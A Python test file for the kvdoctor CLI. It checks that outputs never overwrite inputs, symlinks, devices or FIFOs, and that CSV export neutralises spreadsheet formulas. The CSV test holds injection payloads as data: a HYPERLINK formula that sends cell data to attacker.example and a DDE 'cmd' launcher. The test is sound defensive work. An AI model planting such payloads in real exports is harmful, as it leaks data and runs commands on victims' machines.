"""Every file kvdoctor writes is claimed the way `run` claims its trace: what it did not create is
replaced only with `--force`, a device, FIFO or socket never, a symbolic link never followed, and
no output ever lands on an input, whatever the spelling of its path.

`watch` is run for real against a sleeping child process; the refusals come before any sampling.
A FIFO is the case that used to hang: each command here runs with a timeout, and a hang fails it.
"""

from __future__ import annotations

import csv
import io
import os
import stat
import subprocess
import sys

import pytest
from conftest import REPO

from kvdoctor.trace import schema
from kvdoctor.trace.writer import TraceWriter, finish_trace

MINE = "[my notes, not a trace]\n"


def kv(*args: str, cwd=None, timeout: float = 120) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "kvdoctor.cli", *args], capture_output=True, text=True, cwd=cwd or REPO, timeout=timeout)


def one_line_error(proc: subprocess.CompletedProcess) -> str:
    lines = [line for line in proc.stderr.splitlines() if line.strip()]
    assert proc.returncode == 2 and len(lines) == 1 and lines[0].startswith("kvdoctor: "), (proc.returncode, proc.stderr[-2000:])
    assert "internal error" not in proc.stderr and "Traceback" not in proc.stderr
    return lines[0]


@pytest.fixture
def sleeper():
    child = subprocess.Popen([sys.executable, "-c", "import time; print('ready', flush=True); time.sleep(120)"], stdout=subprocess.PIPE)
    assert child.stdout.readline().strip() == b"ready"
    yield child
    child.kill()
    child.wait()


def small_trace(path) -> str:
    """A finished trace, as `kvdoctor run` leaves one (the closing `]` included)."""
    writer = TraceWriter(str(path))
    header = schema.header_event(pid=7, engine="", engine_version="", process_title="kvdoctor run true", extra={"command": ["true"]})
    header.name = schema.RUN_HEADER
    writer.write_batch([header])
    writer.close()
    finish_trace(str(path), 7, {"command_exit": 0})
    return str(path)


# ---------------------------------------------------------------- watch --trace


def _existing(tmp_path, case: str) -> tuple[str, object]:
    """A path to give `--trace`, and how to tell it was left alone."""
    if case == "ends-in-bracket":
        path = tmp_path / "list.txt"
        path.write_text("[1, 2, 3]")
        return str(path), lambda: path.read_text() == "[1, 2, 3]"
    if case == "starts-with-bracket":
        path = tmp_path / "notes.txt"
        path.write_text(MINE)
        return str(path), lambda: path.read_text() == MINE
    if case == "finished-trace":
        path = small_trace(tmp_path / "old.kvtrace.json")
        before = open(path).read()
        return path, lambda: open(path).read() == before
    if case == "symlink":
        target = tmp_path / "target.txt"
        target.write_text(MINE)
        link = tmp_path / "link.kvtrace.json"
        link.symlink_to(target)
        return str(link), lambda: target.read_text() == MINE
    raise AssertionError(case)


@pytest.mark.parametrize("case", ["ends-in-bracket", "starts-with-bracket", "finished-trace", "symlink"])
def test_watch_refuses_a_file_it_did_not_create_and_force_replaces_it_there(tmp_path, sleeper, case):
    path, untouched = _existing(tmp_path, case)
    line = one_line_error(kv("watch", str(sleeper.pid), "--duration", "1", "--format", "json", "--trace", path))
    assert ("is a symbolic link" if case == "symlink" else "exists: kvdoctor will not replace it") in line
    assert untouched() and os.path.lexists(path)

    forced = kv("watch", str(sleeper.pid), "--interval", "0.2", "--duration", "1", "--format", "json", "--trace", path, "--force")
    assert forced.returncode == 0, forced.stderr[-2000:]
    assert untouched() if case == "symlink" else not untouched()  # a link is replaced itself, never what it points to
    assert not os.path.islink(path) and stat.S_IMODE(os.lstat(path).st_mode) == 0o600
    assert open(path).read().startswith("[\n") and schema.RUN_HEADER in open(path).read()


def device_node(directory) -> str:
    """A character device to write to: a null device of the test's own where it may make one
    (as root, whom a regression would let delete the system's /dev/null), else /dev/null."""
    path = os.path.join(directory, "null-device")
    try:
        os.mknod(path, stat.S_IFCHR | 0o666, os.makedev(1, 3))
        return path
    except PermissionError:
        return "/dev/null"


def test_watch_never_writes_to_a_device_or_a_fifo_even_with_force(tmp_path, sleeper):
    fifo = str(tmp_path / "pipe.kvtrace.json")
    os.mkfifo(fifo)
    device = device_node(tmp_path)
    for path in (device, fifo):
        for force in ([], ["--force"]):
            line = one_line_error(kv("watch", str(sleeper.pid), "--duration", "1", "--format", "json", "--trace", path, *force))
            assert f"{path} is not a regular file: kvdoctor will not write the trace there" in line
    assert stat.S_ISCHR(os.stat(device).st_mode) and stat.S_ISFIFO(os.stat(fifo).st_mode)


# ---------------------------------------------------------------- outputs and inputs


@pytest.fixture(scope="module")
def judged_trace(tmp_path_factory):
    return small_trace(tmp_path_factory.mktemp("judged") / "t.kvtrace.json")


def _spellings(path: str, tmp_path) -> list[str]:
    """The same file under other names: relative, with `..`, through a link, a hard link."""
    link = tmp_path / "link.json"
    link.symlink_to(path)
    hard = tmp_path / "hard.json"
    os.link(path, hard)
    directory = os.path.dirname(path)
    return [
        path,
        os.path.relpath(path, REPO),
        os.path.join(directory, "..", os.path.basename(directory), os.path.basename(path)),
        str(link),
        str(hard),
    ]


def test_gate_never_writes_a_report_over_the_trace_it_judges(tmp_path, judged_trace):
    before = open(judged_trace).read()
    for spelling in _spellings(judged_trace, tmp_path):
        for option in ("--junit", "--html"):
            line = one_line_error(kv("gate", "--force", option, spelling, judged_trace))
            assert "would overwrite the input" in line, line
            assert open(judged_trace).read() == before
    baseline = str(tmp_path / "hard.json")
    line = one_line_error(kv("gate", "--force", "--baseline", baseline, "--junit", judged_trace, judged_trace))
    assert "would overwrite the input" in line
    line = one_line_error(kv("gate", "--force", "--baseline", judged_trace, "--trace", baseline, "--", "true"))
    assert "would overwrite the input" in line
    assert open(judged_trace).read() == before
    report = str(tmp_path / "r.xml")
    line = one_line_error(kv("gate", "--force", "--junit", report, "--html", os.path.relpath(report, REPO), judged_trace))
    assert "is named for two of gate's outputs" in line and not os.path.exists(report)


def test_replay_and_export_never_write_over_their_trace(tmp_path, judged_trace):
    before = open(judged_trace).read()
    link = tmp_path / "link.json"
    link.symlink_to(judged_trace)
    assert "would overwrite the input" in one_line_error(kv("replay", judged_trace, "--force", "-o", str(link)))
    assert "would overwrite the input" in one_line_error(kv("export", judged_trace, "--force", "-o", os.path.relpath(judged_trace, REPO)))
    assert open(judged_trace).read() == before


@pytest.mark.parametrize("destination", ["/dev/stdout", "-"])
def test_replay_writes_its_report_to_stdout_when_told_so(tmp_path, judged_trace, destination):
    proc = kv("replay", judged_trace, "--format", "json", "-o", destination, cwd=tmp_path)
    assert proc.returncode == 0, proc.stderr
    assert '"findings"' in proc.stdout and "exists" not in proc.stderr
    assert os.listdir(tmp_path) == []  # no file named "-"


# ---------------------------------------------------------------- CSV cells


def test_csv_export_neutralises_formulas_from_the_trace(tmp_path):
    path = tmp_path / "crafted.kvtrace.json"
    writer = TraceWriter(str(path))
    evil = '=HYPERLINK("http://attacker.example/?x="&A1,"click")'
    events = [
        schema.header_event(pid=7, engine="sglang", engine_version="0.5.23", process_title="sglang::scheduler", extra={"probe": "kvdoctor"})
    ]
    for k, allocator in enumerate([evil, "+cmd|' /C calc'!A0", "-2+3", "@SUM(1,1)", "\tTAB", "\rCR", "TokenToKVPoolAllocator#0"]):
        events.append(
            schema.Event(ph="C", name=schema.LEDGER_COUNTER, pid=7, ts=1e6 + k, args={"allocator": allocator, "free_slots": -k, "=1+1": 5})
        )
    writer.write_batch(events)
    writer.close()
    out = tmp_path / "t.csv"
    assert kv("export", str(path), "-o", str(out)).returncode == 0
    on_stdout = subprocess.run(
        [sys.executable, "-m", "kvdoctor.cli", "export", str(path), "-o", "-"], capture_output=True, cwd=REPO, timeout=120
    )
    for text in (out.read_bytes().decode(), on_stdout.stdout.decode()):  # bytes: a quoted CR stays a CR
        rows = list(csv.reader(io.StringIO(text)))
        header, cells = rows[0], rows[1:]
        assert "'=1+1" in header and "=1+1" not in header
        allocators = [row[header.index("allocator")] for row in cells]
        assert allocators == ["'" + evil, "'+cmd|' /C calc'!A0", "'-2+3", "'@SUM(1,1)", "'\tTAB", "'\\x0dCR", "TokenToKVPoolAllocator#0"]
        assert [row[header.index("free_slots")] for row in cells] == ["0", "-1", "-2", "-3", "-4", "-5", "-6"]  # numbers stay numbers
